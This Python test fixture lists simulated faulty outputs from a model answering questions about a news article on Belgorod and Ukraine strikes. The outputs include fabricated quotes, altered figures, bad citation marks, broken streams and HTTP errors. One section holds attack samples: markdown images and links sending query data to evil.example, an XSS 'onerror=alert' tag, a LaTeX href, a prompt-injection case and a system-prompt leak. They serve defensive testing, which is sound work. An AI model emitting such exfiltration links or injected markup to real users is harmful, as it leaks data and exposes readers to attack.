"""What bad models answer about the sample article: what they say, where their marks lead, how they break off."""

from __future__ import annotations

from typing import Any

KEY = "sk-a-key-that-nobody-may-see"
CAMPS = "[#1,300 applications#]"
TOLL = "[#at least 25 casualties#]"
ASSAULT = "[#significant air assault#]"
DRONES = "[#59 drones#]"
MILES = "[#up to 100 miles#]"
ZELENSKY = "[#terrorist strikes#]"
MOVED = "[#approximately 300 residents#]"
ASKED = "How many applications were received?"

# name, the model's part, words that the answer may not have, whether something of the model's may be kept
BAD: list[tuple[str, dict[str, Any], list[str], bool]] = [
    # what it says
    ("invented quote", {"text": f"Gladkov said “we will bomb every city we can find”. {CAMPS}"}, ["bomb"], False),
    ("altered quote", {"text": f"Zelensky spoke of “murderous terrorist strikes”. {ZELENSKY}"}, ["murderous"], False),
    (
        "quote of another",
        {"text": f"Gladkov condemned the “terrorist strikes”. {ZELENSKY}"},
        ["Gladkov condemned"],
        False,
    ),
    ("shifted number", {"text": f"1,400 applications were received. {CAMPS}"}, ["1,400"], False),
    ("number in words", {"text": f"Thirteen thousand applications were received. {CAMPS}"}, ["thousand"], False),
    (
        "swapped numbers",
        {"text": f"18 drones and eight cruise missiles were intercepted. {DRONES}"},
        ["18 drones"],
        False,
    ),
    ("dropped bound", {"text": f"The strikes resulted in 25 casualties. {TOLL}"}, ["in 25"], False),
    ("turned bound", {"text": f"Residents travelled at least 100 miles. {MILES}"}, ["at least 100"], False),
    ("changed unit", {"text": f"Residents travelled up to 100 kilometres. {MILES}"}, ["kilomet"], False),
    ("shifted date", {"text": f"The air assault on Ukraine was on December 28. {ASSAULT}"}, ["28"], False),
    ("added year", {"text": f"The air assault on Ukraine was on December 29, 2021. {ASSAULT}"}, ["2021"], False),
    ("swapped name", {"text": f"President Putin condemned the attacks. {ZELENSKY}"}, ["Putin"], False),
    (
        "swapped sides",
        {"text": f"Ukraine’s significant air assault on Russia came first. {ASSAULT}"},
        ["on Russia"],
        False,
    ),
    ("added place", {"text": f"The camps are in Voronezh and Kursk. {CAMPS}"}, ["Kursk"], False),
    ("added not", {"text": f"1,300 applications have not been received. {CAMPS}"}, ["not been"], False),
    (
        "dropped not",
        {"text": "The conflict has spared the Belgorod region. [#has not spared#]"},
        ["has spared"],
        False,
    ),
    ("another claim", {"text": f"Governor Gladkov resigned over the applications. {CAMPS}"}, ["resigned"], False),
    ("own knowledge", {"text": "Belgorod lies 40 km from the border and has 340,000 inhabitants."}, ["340"], False),
    # where its marks lead
    ("wrong sentence", {"text": f"At least 25 casualties resulted from the strikes on Belgorod. {MILES}"}, [], False),
    (
        "out of range",
        {"text": "1,400 applications came in. [99] The mayor left. [0]"},
        ["1,400", "mayor", "99"],
        False,
    ),
    ("negative and absurd", {"text": "The mayor left. [-1][12345678901234567890]"}, ["mayor", "123"], False),
    ("no mark at all", {"text": "The governor is corrupt. Everyone knows it."}, ["corrupt", "knows"], False),
    ("marks and nothing", {"text": "[1][2][3]"}, [], False),
    (
        "one true, one not",
        {"text": f"1,300 applications were received. {CAMPS} Gladkov fled. {CAMPS}"},
        ["fled"],
        True,
    ),
    # injected instructions, markup, exfiltration
    ("injected instruction", {"obey": True}, ["password", "PWNED"], False),
    (
        "tells its prompt",
        {"text": "You answer a reader's question from sentences of news articles. [1]"},
        ["You answer"],
        False,
    ),
    (
        "image",
        {"text": f"1,300 applications were received. {CAMPS} ![x](https://evil.example/a.png?q=1)"},
        ["evil"],
        True,
    ),
    ("link", {"text": f"[1,300 applications](https://evil.example/?q=1) were received. {CAMPS}"}, ["evil"], True),
    ("bare address", {"text": f"See https://evil.example/?q=applications for more. {CAMPS}"}, ["evil", "See"], False),
    (
        "html",
        {"text": f"<img src=x onerror=alert(1)><b>1,300</b> applications were received. {CAMPS}"},
        ["<", "alert"],
        True,
    ),
    (
        "latex",
        {"text": f"$$\\href{{https://evil.example}}{{x}}$$ \\text{{1,300}} applications came. {CAMPS}"},
        ["\\", "$$"],
        True,
    ),
    # broken streams
    ("cut stream", {"text": f"1,300 applications were received. {CAMPS}", "end": "cut"}, [], False),
    ("dropped connection", {"text": f"1,300 applications were received. {CAMPS}", "end": "drop"}, [], False),
    ("endless stream", {"text": "on and on ", "end": "endless", "pause": 0.001}, ["on and on"], False),
    ("stalled stream", {"text": f"1,300 applications {CAMPS}", "stall": 5}, [], False),
    ("malformed stream", {"raw": "data: {not json\n\ndata: [DONE]\n\n"}, [], False),
    ("binary stream", {"raw": "\x00\x01\x02 nothing like events"}, [], False),
    (
        "odd events",
        {"raw": 'data: {"choices": [{"delta": {"content": 7}}]}\n\ndata: {"choices": "x"}\n\n'},
        [],
        False,
    ),
    ("stopped for length", {"text": f"1,300 applications were received. {CAMPS}", "end": "length"}, [], False),
    ("empty answer", {"text": ""}, [], False),
    # HTTP
    ("401", {"status": 401, "body": '{"error": {"message": "Incorrect API key ' + KEY + '"}}'}, [KEY], False),
    ("404", {"status": 404, "body": "no such model"}, ["no such"], False),
    ("429, come back in a minute", {"status": 429, "headers": {"Retry-After": "60"}}, [], False),
    ("429, come back at once", {"status": 429, "headers": {"Retry-After": "0"}}, [], False),
    ("500", {"status": 500, "body": "Traceback (most recent call last)"}, ["Traceback"], False),
    ("400, prompt too long", {"status": 400, "body": "maximum context length"}, ["context"], False),
    ("slow first word", {"first": 5, "text": "x"}, [], False),
    ("hangs up", {"close": True}, [], False),
    ("elsewhere", {"status": 302, "headers": {"Location": "http://127.0.0.1:9/evil"}}, [], False),
]
